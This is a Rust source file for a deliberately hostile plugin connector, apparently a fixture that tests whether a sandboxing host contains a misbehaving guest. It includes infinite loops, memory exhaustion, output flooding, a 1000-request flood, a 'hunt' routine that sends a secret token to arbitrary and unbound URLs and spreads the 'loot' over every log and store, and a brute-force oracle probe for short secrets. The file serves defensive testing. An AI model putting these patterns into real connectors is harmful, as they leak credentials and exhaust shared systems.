//! A connector that misbehaves on purpose, chosen by the record's kind.
//! Host tests use it to prove a bad guest costs one record, never the host.
//!
//! | kind        | what it does                                            |
//! |-------------|---------------------------------------------------------|
//! | `echo`      | behaves: normalize/map succeed, push returns created    |
//! | `loop`      | `normalize` spins forever                               |
//! | `push-loop` | `push` spins forever                                    |
//! | `sleep`     | `normalize` blocks in a WASI sleep for an hour          |
//! | `oom`       | `normalize` allocates until memory runs out             |
//! | `trap`      | `normalize` panics                                      |
//! | `big-return`| `normalize` returns 64 field errors of 128 KiB each (8 MiB for the host to lift) |
//! | `noisy`     | `normalize` writes 1 MiB to stderr and a line to stdout, then behaves |
//! | `fetch`     | `push` GETs the URL in field `url`; the error is returned as `permanent` |
//! | `state`     | `push` writes then reads back state key `k`             |
//! | `peek`      | `push` fails `permanent` quoting state key `k` if it is set, else succeeds |
//! | `queue`     | `push` enqueues a follow-up job                         |
//! | `flood`     | `push` GETs the URL in field `url` up to 1000 times, stopping at the first error, and fails `permanent` saying how many went and what stopped it |
//! | `hunt`      | `push` sends secret `token` to the URL in field `url` (and to field `other`, a host it is not bound to), then spreads whatever came back over every sink it can reach: log, audit, stdout, stderr, state, queue and its error |
//! | `guess`     | `push` probes the host's error messages for an oracle on a secret of field `digits` digits (default 4), sending to field `base`, and fails `permanent` with "no oracle ..." or what answered differently |
//! | `config`    | `push` returns config `greeting` as the primary id      |

use switchboard_sdk::prelude::*;

struct Hostile;

impl Connector for Hostile {
    fn describe() -> Descriptor {
        Descriptor::new("hostile", "0.1.0", "None")
            .kinds([
                "echo",
                "loop",
                "push-loop",
                "sleep",
                "oom",
                "big-return",
                "trap",
                "noisy",
                "fetch",
                "state",
                "peek",
                "hunt",
                "guess",
                "flood",
                "queue",
                "config",
            ])
            .config_keys(["greeting"])
    }

    /// Nothing to warm: this fixture parses no phone numbers, so it skips
    /// the SDK's default phone-metadata warm-up and its memory.
    fn prepare() {}

    fn normalize(rec: Record) -> Result<Record, Vec<FieldError>> {
        match rec.kind.as_str() {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "sleep" => {
                // A blocking WASI poll: no guest code runs, so no epoch check either.
                std::thread::sleep(std::time::Duration::from_secs(3600));
                Ok(rec)
            }
            "oom" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "trap" => panic!("hostile guest panics on purpose"),
            "big-return" => Err((0..64)
                .map(|i| FieldError {
                    field: format!("f{i}"),
                    reason: "x".repeat(128 << 10),
                })
                .collect()),
            "noisy" => {
                // 16 384 lines of 64 bytes: far past what the host keeps.
                for i in 0..16_384 {
                    eprintln!("noisy line {i:05} {}", "-".repeat(46));
                }
                eprintln!("noisy done");
                println!("noisy stdout");
                Ok(rec)
            }
            _ => Ok(rec),
        }
    }

    fn map_fields(rec: Record) -> Result<Payload, Vec<FieldError>> {
        Ok(Payload {
            object: rec.kind,
            body: "{}".into(),
        })
    }

    fn push(ctx: PushContext, rec: Record, _payload: Payload) -> Result<PushOutcome, PushError> {
        match rec.kind.as_str() {
            "push-loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "fetch" => {
                let url = rec
                    .text("url")
                    .unwrap_or("https://example.com/")
                    .to_string();
                let resp = http::Request::get(url)
                    .send()
                    .map_err(|e| PushError::Classified(ErrorClass::Permanent(format!("{e:?}"))))?;
                Ok(PushOutcome::created(CrmRef::new(
                    "status",
                    resp.status.to_string(),
                )))
            }
            "state" => {
                state::set_string("k", &ctx.idempotency_key)
                    .map_err(|e| PushError::Classified(ErrorClass::Permanent(format!("{e:?}"))))?;
                let back = state::get_string("k")
                    .map_err(|e| PushError::Classified(ErrorClass::Permanent(format!("{e:?}"))))?;
                Ok(PushOutcome::created(CrmRef::new(
                    "state",
                    back.unwrap_or_default(),
                )))
            }
            "hunt" => hunt(&rec),
            "flood" => {
                let url = rec.text("url").unwrap_or("https://example.com/");
                let mut sent = 0;
                let stop = loop {
                    if sent == 1000 {
                        break "nothing".to_owned();
                    }
                    match http::Request::get(url).send() {
                        Ok(_) => sent += 1,
                        Err(e) => break format!("{e:?}"),
                    }
                };
                Err(PushError::Classified(ErrorClass::Permanent(format!(
                    "sent {sent}, then {stop}"
                ))))
            }
            "guess" => guess(&rec),
            "peek" => {
                let seen = state::get_string("k")
                    .map_err(|e| PushError::Classified(ErrorClass::Permanent(format!("{e:?}"))))?;
                match seen {
                    Some(v) => Err(PushError::Classified(ErrorClass::Permanent(format!(
                        "state k is {v}"
                    )))),
                    None => Ok(PushOutcome::created(CrmRef::new("state", "none"))),
                }
            }
            "queue" => {
                let id = queue::enqueue("follow-up", b"payload", 5_000)
                    .map_err(|e| PushError::Classified(ErrorClass::Permanent(format!("{e:?}"))))?;
                Ok(PushOutcome::created(CrmRef::new("job", id)))
            }
            "config" => Ok(PushOutcome::created(CrmRef::new(
                "config",
                config::get_or("greeting", ""),
            ))),
            _ => {
                log::info(&format!("echo {}", rec.id));
                audit::annotate("echo", &rec.id);
                Ok(PushOutcome::created(CrmRef::new("echo", rec.id)))
            }
        }
    }

    fn classify_error(resp: CrmResponse) -> ErrorClass {
        errors::classify_by_status(&resp)
    }
}

/// Gets the secret reflected by a host and tries every way out with it.
fn hunt(rec: &Record) -> Result<PushOutcome, PushError> {
    let permanent = |e: String| PushError::Classified(ErrorClass::Permanent(e));
    // A host the secret is not bound to: the host must refuse before sending.
    if let Some(other) = rec.text("other") {
        let sent = http::Request::get(other)
            .secret_header("authorization", "token", "Bearer ")
            .send();
        if let Ok(resp) = sent {
            return Err(permanent(format!(
                "the secret went to an unbound host: {}",
                String::from_utf8_lossy(&resp.body)
            )));
        }
    }
    let url = rec
        .text("url")
        .unwrap_or("https://example.com/")
        .to_string();
    let resp = http::Request::get(url)
        .secret_header("authorization", "token", "Bearer ")
        .send()
        .map_err(|e| permanent(format!("{e:?}")))?;
    let loot = String::from_utf8_lossy(&resp.body).into_owned();
    log::error(&format!("loot: {loot}"));
    audit::annotate("loot", &loot);
    println!("loot: {loot}");
    eprintln!("loot: {loot}");
    if rec.text("store") == Some("queue") {
        let _ = queue::enqueue("loot", loot.as_bytes(), 3_600_000);
    } else {
        let _ = state::set_string("loot", &loot);
    }
    Err(PushError::Classified(ErrorClass::Auth(format!(
        "401 from the CRM: {loot}"
    ))))
}

/// Looks for an oracle: puts every number of `digits` digits (a short secret's every
/// possible value) where the host's errors might echo it (a secret name, a header name
/// and value, a host name, a method), and compares the answers with the number taken
/// out. Fails `permanent` with what it learned: "no oracle" or the candidate that
/// answered differently.
fn guess(rec: &Record) -> Result<PushOutcome, PushError> {
    let digits: u32 = rec.text("digits").and_then(|d| d.parse().ok()).unwrap_or(4);
    let base = rec.text("base").unwrap_or("https://allowed.example/");
    let mut first: Option<Vec<String>> = None;
    for n in 0..10u32.pow(digits) {
        // Wrapped in letters, so taking it out of an answer cannot also hit a
        // number that merely looks the same ("os error 111").
        let g = format!("q{n:0width$}q", width = digits as usize);
        let tries = [
            http::Request::get(base).secret_header("x-a", &g, ""),
            http::Request::get(base).secret_header("x-b", "token", &g),
            http::Request::get(format!("https://x{g}.example/")),
            http::Request::new(&format!("M{g}"), base),
            http::Request::get(base).header(&format!("x-{g}"), "\n"),
        ];
        let seen: Vec<String> = tries
            .into_iter()
            .map(|t| match t.send() {
                Ok(resp) => format!("status {}", resp.status),
                Err(e) => format!("{e:?}").replace(&g, "#"),
            })
            .collect();
        match &first {
            None => first = Some(seen),
            Some(f) if *f != seen => {
                return Err(PushError::Classified(ErrorClass::Permanent(format!(
                    "oracle: {g} answered {seen:?}, not {f:?}"
                ))));
            }
            Some(_) => {}
        }
    }
    Err(PushError::Classified(ErrorClass::Permanent(format!(
        "no oracle in {} candidates",
        10u32.pow(digits)
    ))))
}

switchboard_sdk::export_connector!(Hostile);
